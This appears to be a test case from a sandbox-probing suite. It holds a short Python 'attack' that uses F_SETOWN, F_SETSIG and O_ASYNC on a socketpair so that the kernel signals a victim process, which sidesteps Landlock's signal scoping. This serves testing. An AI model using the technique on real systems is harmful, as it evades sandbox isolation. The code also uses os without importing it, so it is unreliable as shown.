"""Make the kernel signal another process when our own pipe becomes readable.

origin: F_SETOWN with F_SETSIG and O_ASYNC; Landlock scopes it only since its sixth version
why: no call for sending a signal is made at all
control: succeeds
harm: stage
"""

import fcntl
import signal
import socket
import time


def attack(target):
    ours, other = socket.socketpair()
    for command, value in ((8, target["victim"]), (10, int(signal.SIGUSR1))):
        result, error = syscall(target, "fcntl", ours.fileno(), command, value)
        if result < 0:
            return blocked("fcntl", error)
    flags = fcntl.fcntl(ours, fcntl.F_GETFL)
    fcntl.fcntl(ours, fcntl.F_SETFL, flags | os.O_ASYNC)
    other.send(b"x")
    time.sleep(0.02)
    return nothing("the kernel was asked to signal for us")
